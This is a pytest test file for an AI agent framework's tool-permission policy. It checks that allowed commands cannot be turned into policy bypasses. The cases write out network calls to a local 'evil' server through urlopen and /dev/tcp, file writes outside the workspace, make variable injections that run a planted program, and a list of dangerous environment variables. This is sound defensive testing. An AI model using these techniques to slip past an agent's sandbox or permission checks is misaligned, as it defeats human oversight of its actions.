"""Bypasses of the policy that involve no rule: each really works if the policy is not asked."""

from __future__ import annotations

import asyncio
import stat
import time
from pathlib import Path
from typing import Any

import pytest

from everloop import AgentLoop, InboundMessage, MessageBus, Tool
from everloop.config import Config, Rule
from everloop.testing import ScriptedProvider, call
from everloop.tools.base import Plan, ToolError
from tests.support.web_servers import Server

from .scene import Scene, canary

ALLOWED_MAKE = Rule(do="allow", command="make"), Rule(do="deny", tool="exec")
UNCONFINED = {"confine": False}


def policy(*rules: Rule) -> dict[str, Any]:
    return {"config": Config(policy=rules)}


# ---------------------------------------------------------------------------------------------- what a rule allows


async def test_allowing_a_command_does_not_allow_it_the_network(scene: Scene, evil: Server) -> None:
    send = f"import urllib.request as u; u.urlopen('http://127.0.0.1:{evil.port}/gone')"
    calls = call("exec", command=f'python3 -c "{send}"', network=True)
    for allowed in (
        Rule(do="allow", command="python3"),
        Rule(do="allow", tool="exec", command="*"),
        Rule(do="allow", tool="exec"),
        Rule(do="allow", tool="*"),
        Rule(do="allow"),
        Rule(do="allow", tool="exec", arguments={"command": "*"}),
        Rule(do="allow", tool="exec", path="**"),
    ):
        await scene.run(calls, **policy(allowed))
    assert evil.connections == 0
    named = Rule(do="allow", command="python3", network=True), Rule(do="allow", network=True, tainted=True)
    for number, allowed in enumerate(named, 1):
        attack = await scene.run(calls, **policy(allowed))
        assert len(evil.requests) == number, attack.results  # so the attack is real


async def test_a_generally_allowed_tool_still_needs_approval_for_the_network(scene: Scene, evil: Server) -> None:
    command = f"exec 3<>/dev/tcp/127.0.0.1/{evil.port}; echo GET /gone >&3"
    model = ScriptedProvider([call("exec", command=command, network=True), "done"])
    config = Config(policy=(Rule(do="allow", tool="exec"),))
    agent = AgentLoop(MessageBus(), model, scene.workspace, config=config, restrict_to_workspace=True)
    async with agent:
        running = asyncio.create_task(agent.run())
        await agent.bus.publish_inbound(InboundMessage("test", "u", "1", "go"))
        question = await asyncio.wait_for(agent.bus.consume_outbound(), 30)
        assert "network access needs approval" in question.content
        assert evil.connections == 0
        await agent.bus.publish_inbound(InboundMessage("test", "u", "1", "y"))
        said = [(await asyncio.wait_for(agent.bus.consume_outbound(), 60)).content for _ in range(2)]
        assert sorted(said) == ["Approved.", "done"]
        assert evil.connections == 1
        agent.stop()
        await running


@pytest.mark.parametrize(
    "line",
    [
        "echo gone > {target}",
        "echo gone >> {target}",
        "echo gone &> {target}",
        "timeout 5 echo gone > {target}",
        "{{ echo gone; }} > {target}",
        "for one in 1; do echo gone; done > {target}",
        "T={target}; echo gone > $T",
        "cd ..; echo gone > outside/gone",
        "bash -c 'echo gone > {target}'",
    ],
)
async def test_allowing_a_command_does_not_allow_it_files_outside(scene: Scene, line: str) -> None:
    target = scene.outside / "gone"
    rules = Rule(do="allow", command="echo"), Rule(do="allow", command="cd"), Rule(do="deny", tool="exec")
    await scene.run(call("exec", command=line.format(target=target)), exec_config=UNCONFINED, **policy(*rules))
    assert not target.exists()
    inside = await scene.run(call("exec", command="echo kept > kept"), exec_config=UNCONFINED, **policy(*rules))
    assert (scene.workspace / "kept").read_text() == "kept\n", inside.results


def program(scene: Scene, path: Path) -> Path:
    """A program that creates the canary outside."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\ntouch {scene.outside}/canary\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return path


VARIABLES = {
    "a makefile": "MAKEFILES={evil} make",
    "make's flags": "MAKEFLAGS='--eval=$(shell {run})' make",
    "GNU make's flags": "GNUMAKEFLAGS='--eval=$(shell {run})' make",
    "the compiler": "CC={run} make thing.o",
    "the compiler, by env": "env CC={run} make thing.o",
    "the compiler, exported": "export CC={run}; make thing.o",
    "the compiler, all exported": "set -a; CC={run}; make thing.o",
    "the compiler, declared": "declare -x CC={run}; make thing.o",
}


@pytest.mark.parametrize("line", VARIABLES.values(), ids=VARIABLES)
async def test_no_variable_makes_an_allowed_command_run_something_else(
    scene: Scene, line: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SHELL", "/bin/sh")  # without one, make does not expand $(shell ...) in its flags
    run = program(scene, scene.workspace / "run")
    evil = scene.workspace / "evil.mk"
    evil.write_text(f"$(shell {run})\nall: ;\n")
    (scene.workspace / "Makefile").write_text("all: ;\n")
    (scene.workspace / "thing.c").write_text("int a;\n")
    command = line.format(evil=evil, run=run)
    # Without the rules, the canary is created: the attack is real.
    await scene.run(call("exec", command=command), exec_config=UNCONFINED, **policy(Rule(do="allow", tool="exec")))
    sings = (scene.outside / "canary").exists()
    (scene.outside / "canary").unlink(missing_ok=True)
    await scene.run(call("exec", command=command), exec_config=UNCONFINED, **policy(*ALLOWED_MAKE))
    assert not (scene.outside / "canary").exists()
    assert sings


@pytest.mark.parametrize("variable", ["LD_PRELOAD", "GCONV_PATH", "LOCPATH", "TERMINFO", "OPENSSL_CONF", "NLSPATH",
    "PYTHONSTARTUP", "NODE_OPTIONS", "PERL5OPT", "RUBYOPT", "JAVA_TOOL_OPTIONS", "GIT_SSH", "BASH_ENV", "ENV", "IFS",
    "PATH", "EDITOR", "PAGER", "MANPAGER", "LESSOPEN", "TAR_OPTIONS", "RSYNC_RSH", "CARGO_HOME", "RUSTC_WRAPPER",
    "npm_config_script_shell", "PIP_INDEX_URL", "HOME", "XDG_CONFIG_HOME", "TMPDIR", "CXX", "LD", "http_proxy",
    "LANGUAGE", "ANYTHING_ELSE", "lower_case"])  # fmt: skip
async def test_only_harmless_variables_may_be_set_for_an_allowed_command(scene: Scene, variable: str) -> None:
    (scene.workspace / "Makefile").write_text("all: ; @echo x >> ran\n")
    await scene.run(call("exec", command=f"{variable}=x make"), **policy(*ALLOWED_MAKE))
    assert not (scene.workspace / "ran").exists()


async def test_harmless_variables_and_the_shells_own_are_accepted(scene: Scene) -> None:
    (scene.workspace / "Makefile").write_text("all: ; @echo x >> ran\n")
    lines = ("LC_ALL=C make", "TZ=UTC NO_COLOR=1 make", "env CI=1 make", "for one in 1 2; do make; done", "n=1; make")
    await scene.run(*(call("exec", command=line) for line in lines), **policy(*ALLOWED_MAKE))
    assert (scene.workspace / "ran").read_text() == "x\n" * 6


# ---------------------------------------------------------------------------------------------- calls without a plan


class Unplanned(Tool):
    """A tool that acts without declaring what it would do."""

    name = "unplanned"
    description = "acts"
    parameters = {"type": "object", "properties": {"text": {"type": "string"}}}  # noqa: RUF012

    def __init__(self, place: Path, error: BaseException | None) -> None:
        self.place, self.error = place, error

    def plan(self, arguments: dict[str, Any]) -> Plan:
        if self.error is not None:
            raise self.error
        return None  # type: ignore[return-value]

    async def execute(self, text: str = "") -> str:
        self.place.write_text("gone")
        return "done"


@pytest.mark.parametrize("error", [ToolError("no"), ValueError("no"), KeyError("no"), SystemExit(3), None])
@pytest.mark.parametrize("rules", [(), (Rule(do="deny", tool="*"),), (Rule(do="ask", tool="un*"),),
    (Rule(do="deny", path="secrets/**"), Rule(do="allow", tool="*")), (Rule(do="deny", origin="cli:*"),),
    (Rule(do="allow", command="*"),), (Rule(do="deny", network=True), Rule(do="allow"))])  # fmt: skip
async def test_a_call_without_a_plan_is_not_allowed(scene: Scene, error: Any, rules: Any) -> None:
    place = scene.outside / "gone"
    scene.tools = [Unplanned(place, error)]
    attack = await scene.run(call("unplanned", text="x"), **policy(*rules))
    assert not place.exists()
    assert attack.answer == "done"  # the turn continues


async def test_a_call_without_a_plan_may_be_allowed_by_its_name(scene: Scene) -> None:
    place = scene.outside / "gone"
    scene.tools = [Unplanned(place, ValueError("no"))]
    await scene.run(call("unplanned"), **policy(Rule(do="allow", tool="unplanned"), Rule(do="deny")))
    assert place.exists()


async def test_calls_that_cannot_run_are_denied_by_their_name(scene: Scene) -> None:
    denied = await scene.run(
        call("spawn", task="  "), call("read_file", nonsense=1), **policy(Rule(do="deny", tool="*", why="because"))
    )
    assert all("because" in result for result in denied.results)
    told = await scene.run(call("read_file", nonsense=1), **policy(Rule(do="deny", path="secrets/**")))
    assert "Wrong arguments" in told.results[-1]  # what the model can do about it


# ---------------------------------------------------------------------------------------------- long commands


LONG = {
    "many commands": "a b; " * 38_400,
    "one long word": "x" * 192_000,
    "unknown text": "$x-" * 64_000,
    "many files": "cat " + "a/b " * 48_000,
    "as long as is read": "cat " + "$a/b* " * 3_300,
    "commands as long as are read": "cat a/b; " * 2_200,
}


@pytest.mark.parametrize("command", LONG.values(), ids=LONG)
async def test_a_long_command_does_not_block_the_event_loop(scene: Scene, command: str) -> None:
    rules = [Rule(do="deny", command=f"*{'a*' * 8}{n}") for n in range(5)]
    rules += [Rule(do="deny", path=f"**/{n}*x/**") for n in range(5)]
    held_up: list[float] = []

    async def watch() -> None:
        before = time.thread_time()  # CPU time of the loop's own thread, independent of other processes
        while True:
            await asyncio.sleep(0)
            held_up.append(time.thread_time() - before)
            before = time.thread_time()

    model = ScriptedProvider(["hello", call("exec", command=command), *["done"] * 4])  # the long history is summarised
    settings = {"store": scene.root / "store.db", "restrict_to_workspace": True, **policy(*rules)}
    async with AgentLoop(MessageBus(), model, scene.workspace, **settings) as agent:
        await agent.process_direct("hello")  # one-time imports and initialization
        watching = asyncio.create_task(watch())
        assert await agent.process_direct("do it") == "done"
        watching.cancel()
    assert max(held_up) < 0.05


async def test_a_command_too_long_to_parse_is_allowed_by_no_rule_and_never_asked_about(scene: Scene) -> None:
    long = f"touch {scene.workspace}/gone; " + "true; " * 4_000
    for last in ("ask", "deny"):
        rules = Rule(do="allow", command="*"), Rule(do=last, tool="exec")
        await scene.run(call("exec", command=long), **policy(*rules))
        assert not (scene.workspace / "gone").exists()
    secret = canary()
    await scene.run(call("exec", command=f"echo {secret} > kept"), **policy(Rule(do="allow", command="*")))
    assert secret in (scene.workspace / "kept").read_text()
